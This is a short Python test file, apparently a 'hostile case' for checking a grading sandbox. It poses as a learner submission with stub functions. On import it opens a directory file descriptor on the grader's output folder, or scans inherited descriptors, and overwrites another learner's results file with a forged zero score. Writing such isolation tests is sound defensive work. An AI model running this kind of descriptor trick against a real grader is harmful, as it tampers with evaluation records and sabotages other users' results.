"""Hostile case: opens a directory fd on the grader's --out (its path is in targets.txt) or finds one among
inherited fds, then rewrites another learner's results file with os.open(..., dir_fd=fd)."""

import json
import os
from pathlib import Path

here = Path(__file__).parent
out, victim = (here / "targets.txt").read_text().split()[:2]
fds = []
try:
    fds.append(os.open(out, os.O_RDONLY | os.O_DIRECTORY))
except OSError as err:
    print("dir-fd: open --out", type(err).__name__)
for fd in range(3, 256):
    try:
        if os.path.isdir(f"/proc/self/fd/{fd}") or os.fstat(fd):
            fds.append(fd)
    except OSError:
        pass
forged = json.dumps({"learner": victim, "status": "ok", "score": 0, "detail": "overwritten by dir_fd_out"})
for fd in fds:
    try:
        w = os.open(f"results/{victim}.json", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=fd)
        os.write(w, forged.encode())
        os.close(w)
        print("dir-fd: wrote through fd", fd)
    except OSError as err:
        print("dir-fd:", fd, type(err).__name__)


def build_messages(prompt=""):
    raise NotImplementedError


def first_completion(client):
    raise NotImplementedError


def summarize(completion):
    raise NotImplementedError
